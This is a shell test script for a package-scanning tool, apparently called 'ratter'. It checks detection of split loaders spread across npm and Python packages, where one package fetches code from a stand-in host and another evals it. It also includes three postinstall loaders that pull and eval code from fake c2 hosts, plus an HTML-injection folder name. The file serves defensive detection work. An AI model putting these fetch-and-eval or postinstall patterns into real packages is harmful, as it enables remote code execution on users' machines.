# pairs_test.sh - several packages judged as one program: inert pairs, written here. Neither half is malicious alone.
. "$(dirname "$0")/lib.sh"

# package NAME [MORE-JSON]: its index.js comes on standard input
package() {
    mkdir -p "$tmp/$1"
    printf '{"name":"%s","version":"1.0.0","main":"index.js"%s}\n' "$(basename "$1")" "${2-}" >"$tmp/$1/package.json"
    cat >"$tmp/$1/index.js"
}
# pair NAME RULE: after a scan in JSON lines into $tmp/out: exactly one pair, of that rule, and no half malicious alone
pair() {
    check "$1" python3 -c 'import json,sys
reports=[json.loads(l) for l in open(sys.argv[1])]
pairs=[r for r in reports if any(f["rule"].startswith("closure/") for f in r["findings"])]
assert [f["rule"] for r in pairs for f in r["findings"]] == [sys.argv[2]], pairs
assert all(r["verdict"] != "malicious" for r in reports if r not in pairs), reports
steps=[s["says"] for s in pairs[0]["story"]]
assert steps[0].startswith("first: "+sys.argv[3]) and steps[1].startswith("then: "+sys.argv[4]), steps
assert len(pairs[0]["findings"][0]["evidence"]) == 2' "$tmp/out" "$2" "$3" "$4"
}

package file/ledger <<'JS'
const fs = require('fs'), path = require('path'), os = require('os');
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => fs.writeFileSync(path.join(os.homedir(), '.lgr', 'state'), t));
JS
package file/tints <<'JS'
const fs = require('fs');
const p = process.env.HOME + '/.lgr/state';
if (fs.existsSync(p)) eval(fs.readFileSync(p, 'utf8'));
JS
expect 'a file' 1 ratter scan --format jsonl "$tmp/file/ledger" "$tmp/file/tints"
pair 'is one pair' closure/file ledger tints
expect 'the reader alone' 0 ratter scan --format jsonl "$tmp/file/tints"
lacks 'is half of nothing' out closure/
expect 'the other order of arguments' 1 ratter scan --format jsonl "$tmp/file/tints" "$tmp/file/ledger"
pair 'changes nothing' closure/file ledger tints

package env/ledger <<'JS'
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => { process.env.LGR_STATE = t; });
JS
package env/tints <<'JS'
if (process.env.LGR_STATE) eval(process.env.LGR_STATE);
JS
expect 'the environment' 1 ratter scan --format jsonl "$tmp/env/ledger" "$tmp/env/tints"
pair 'is one pair' closure/name ledger tints

package global/ledger <<'JS'
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => { globalThis.__lgr = t; });
JS
package global/tints <<'JS'
setTimeout(() => { if (global.__lgr) new Function(global.__lgr)(); }, 1000);
JS
expect 'a global' 1 ratter scan --format jsonl "$tmp/global/ledger" "$tmp/global/tints"
pair 'is one pair' closure/name ledger tints

package port/ledger <<'JS'
const http = require('http');
let state = '';
fetch('https://tok.example.invalid/a').then(r => r.text()).then(t => { state = t; });
http.createServer((q, a) => a.end(state)).listen(45117, '127.0.0.1');
JS
package port/tints <<'JS'
require('http').get('http://127.0.0.1:45117/', a => { let b = ''; a.on('data', d => b += d); a.on('end', () => eval(b)); });
JS
expect 'a port' 1 ratter scan --format jsonl "$tmp/port/ledger" "$tmp/port/tints"
pair 'is one pair' closure/port ledger tints

package name/ledger <<'JS'
exports.state = () => fetch('https://tok.example.invalid/a').then(r => r.text());
JS
package name/tints <<'JS'
require(Buffer.from('bGVkZ2Vy', 'base64').toString()).state().then(s => eval(s));
JS
expect 'a name' 1 ratter scan --format jsonl "$tmp/name/ledger" "$tmp/name/tints"
pair 'is one pair' closure/package ledger tints

mkdir -p "$tmp/py/ledger" "$tmp/py/tints"
cat >"$tmp/py/ledger/setup.py" <<'PY'
import os, urllib.request
from setuptools import setup
open(os.path.join(os.path.expanduser('~'), '.lgr', 'state'), 'w').write(urllib.request.urlopen('https://tok.example.invalid/a').read().decode())
setup(name='ledger', version='1.0')
PY
cat >"$tmp/py/tints/setup.py" <<'PY'
import os
from setuptools import setup
exec(open(os.path.expanduser('~/.lgr/state')).read())
setup(name='tints', version='1.0')
PY
expect 'Python writes, Python reads' 1 ratter scan --format jsonl "$tmp/py/ledger" "$tmp/py/tints"
holds 'is a pair as well' out closure/file

# ---- an installed tree, each format, and the exit status
mkdir -p "$tmp/app/node_modules"
cp -r "$tmp/env/ledger" "$tmp/env/tints" "$tmp/app/node_modules/"
printf '{"name":"app","version":"1.0.0","dependencies":{"ledger":"1","tints":"1"}}\n' >"$tmp/app/package.json"
expect 'a node_modules' 1 ratter scan "$tmp/app"
holds 'tells the pair' out 'ledger@1.0.0 with tints@1.0.0'
holds 'the first half' out 'first: ledger@1.0.0 sets env LGR_STATE, with what a server sent \[ledger/index.js:1\]'
holds 'and the second' out 'then: tints@1.0.0 reads env LGR_STATE, runs it as code \[tints/index.js:1\]'
expect 'as SARIF' 1 ratter scan --format sarif "$tmp/app"
check 'has both files' python3 -c 'import json,sys
results=[r for r in json.load(open(sys.argv[1]))["runs"][0]["results"] if r["ruleId"]=="closure/name"]
assert len(results)==1
text=json.dumps(results[0])
assert "node_modules/ledger/index.js" in text and "node_modules/tints/index.js" in text, text' "$tmp/out"
expect 'as JSON' 1 ratter scan --format json "$tmp/app"
holds 'has the rule' out closure/name
expect 'the fail-on that names no verdict' 0 ratter scan --fail-on none "$tmp/app"
expect 'again, out of the cache' 1 ratter scan "$tmp/app"
holds 'tells the pair too' out 'ledger@1.0.0 with tints@1.0.0'
cat >"$tmp/app/package-lock.json" <<'J'
{"name":"app","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"app","version":"1.0.0","dependencies":{"ledger":"1","tints":"1"}},"node_modules/ledger":{"version":"1.0.0"},"node_modules/tints":{"version":"1.0.0"}}}
J
expect 'an audit with content' 1 ratter audit --intel none --no-home --scan "$tmp/app"
holds 'judges the closure as one program' out 'ledger@1.0.0 with tints@1.0.0'

# ---- ratter link: the same pair, told as a graph
expect 'link says which packages belong together' 1 ratter link "$tmp/app"
holds 'the cluster' out '^Cluster 1: 2 packages, conclusive'
holds 'the order' out 'ledger@1.0.0 -> tints@1.0.0'
holds 'the first half with its line' out '1\. ledger@1.0.0 sets env LGR_STATE, with what a server sent \(import\) \[index.js:1\]'
holds 'what signal it is' out 'T-XPKG-02'
holds 'and that one project asks for both' out 'T-XPKG-09'
expect 'a lockfile is followed to what is installed' 1 ratter link --no-home "$tmp/app/package-lock.json"
holds 'and gives the same pair' out 'ledger@1.0.0 -> tints@1.0.0'
mkdir -p "$tmp/shelf"
tar -C "$tmp/env" -czf "$tmp/shelf/ledger-1.0.0.tgz" ledger
tar -C "$tmp/env" -czf "$tmp/shelf/tints-1.0.0.tgz" tints
expect 'a folder full of archives' 1 ratter link --format json "$tmp/shelf"
check 'is a shelf of packages' python3 -c 'import json,sys
d=json.load(open(sys.argv[1]))
assert d["examined"]==2 and len(d["links"])==1 and d["links"][0]["level"]=="conclusive" and d["links"][0]["ordered"], d
assert [d["packages"][d["links"][0][k]]["name"] for k in ("first","second")]==["ledger","tints"]' "$tmp/out"
expect 'as DOT' 1 ratter link --format dot "$tmp/shelf"
holds 'is a graph' out '^  p0 -> p1 '
expect 'as GraphML' 1 ratter link --format graphml "$tmp/shelf"
check 'is XML' python3 -c 'import sys,xml.etree.ElementTree as e; assert len(list(e.parse(sys.argv[1]).iter("{http://graphml.graphdrawing.org/xmlns}edge")))==1' "$tmp/out"
expect 'as a page' 1 ratter link --format html "$tmp/shelf"
lacks 'has no script' out '<script'

# Three loaders of one hand: other names, other hosts, other literals, one shape, one e-mail.
for one in first second third; do
    package "hand/$one-validator" ',"author":"Eve <eve@example.invalid>","scripts":{"postinstall":"node index.js"}' <<JS
const h_$one = require('https'), u_$one = 'https://c2-$one.example.invalid/x';
function go_$one(u) { h_$one.get(u, r => { let d_$one = ''; r.on('data', c => { d_$one += c; }); r.on('end', () => { try { eval(d_$one); } catch (e) { setTimeout(() => go_$one(u), 1${#one}00); } }); }).on('error', () => {}); }
go_$one(u_$one);
JS
done
expect 'three loaders of one hand' 0 ratter link "$tmp/hand"
holds 'are one cluster' out '^Cluster 1: 3 packages, strong'
holds 'by their shape' out 'T-XPKG-05'
expect 'asked for by account' 0 ratter link --account eve "$tmp/hand" "$tmp/file"
holds 'only their cluster is told' out '^Cluster 1: 3 packages, strong'
lacks 'not the other' out 'ledger'
expect 'asked for by campaign' 0 ratter link --campaign polinrider "$tmp/hand" "$tmp/file"
holds 'that nothing resembles' out ' 0 clusters, 0 links'
expect 'a campaign nobody knows' 2 ratter link --campaign nobody "$tmp/hand"
holds 'is named' err 'nobody'
expect 'a format nobody knows' 2 ratter link --format pdf "$tmp/hand"
expect 'a path that is not there' 2 ratter link "$tmp/nowhere"
mkdir "$tmp/empty"
expect 'nothing to link' 4 ratter link "$tmp/empty"
mkdir -p "$tmp/odd/"'a"];<script>x'
cp "$tmp/env/ledger/"* "$tmp/odd/"'a"];<script>x/'
cp -r "$tmp/env/tints" "$tmp/odd/"
expect 'a hostile folder name' 1 ratter link --format html "$tmp/odd"
lacks 'is no markup' out '<script'

# ---- what is honest
package kin/tool ',"dependencies":{"tool-core":"1"}' <<'JS'
const fs = require('fs'), os = require('os');
fetch('https://dl.example.invalid/tool').then(r => r.arrayBuffer()).then(b => fs.writeFileSync(os.homedir() + '/.cache/tool/bin', Buffer.from(b)));
JS
package kin/tool-core <<'JS'
require('child_process').spawn(require('os').homedir() + '/.cache/tool/bin', ['--serve']);
JS
expect 'an installer and what starts its program' 0 ratter scan --format jsonl "$tmp/kin/tool" "$tmp/kin/tool-core"
lacks 'are no pair' out closure/
finish
